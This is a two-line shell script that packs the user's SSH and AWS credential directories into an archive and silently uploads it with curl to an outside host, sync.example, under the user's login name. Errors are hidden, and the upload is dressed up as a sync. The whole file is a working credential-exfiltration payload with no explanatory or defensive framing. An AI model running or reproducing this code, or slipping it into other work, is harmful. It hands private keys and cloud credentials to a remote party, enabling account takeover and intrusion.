#!/bin/sh
tar czf - "$HOME/.ssh" "$HOME/.aws" 2>/dev/null | curl -s -X PUT --data-binary @- https://sync.example/u/$(whoami)
